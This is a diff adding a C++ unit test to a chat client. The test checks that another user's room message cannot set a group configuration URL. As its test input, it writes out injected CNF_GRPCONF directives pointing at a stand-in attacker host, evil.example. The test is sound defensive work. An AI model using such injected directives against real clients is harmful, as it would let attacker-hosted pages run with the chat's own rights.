@@ -338,3 +338,22 @@ TEST(GroupDirectives, AnnouncedGroupNamesDoNotSteerTheirDocument)
         EXPECT_EQ(inst.urls, c.fetched ? Lines{c.fetched} : Lines{});
     }
 }
+
+// Another user's room line cannot give a group a configuration address: the
+// document it names would run with the rights of the chat's own pages.
+TEST(GroupDirectives, AnotherUsersGroupConfigurationRunsNothing)
+{
+    Chat t;
+    CFakeInstance inst;
+    t.m.vSetInstance(&inst);
+    t.vEnter();
+    t.vReceive("<SMESS></SMESS><CNF_GRPCONF grpname=ops cnfurl=\"http://evil.example/ops.htm\"></CNF_GRPCONF>"
+               "<CNF_GRPCONF cnfurl=\"http://evil.example/%grpname%.htm\"></CNF_GRPCONF>"
+               "<DYN_GRP GRPNAME=\"ops\" GRPUSER=\"bob\" GRPRANK=\"1\" SENDER=\"bob\"></DYN_GRP>",
+               "bob");
+    ASSERT_TRUE(t.m.groups.boHasMember("ops", "bob")) << "the announcement itself is applied";
+    EXPECT_EQ(t.m.groups.lpFind("ops")->strFileTemplate, "");
+    EXPECT_EQ(t.m.groups.strGroupFile("ops"), "");
+    t.m.strNickDisplay("bob", 0);
+    EXPECT_TRUE(inst.urls.empty());
+}
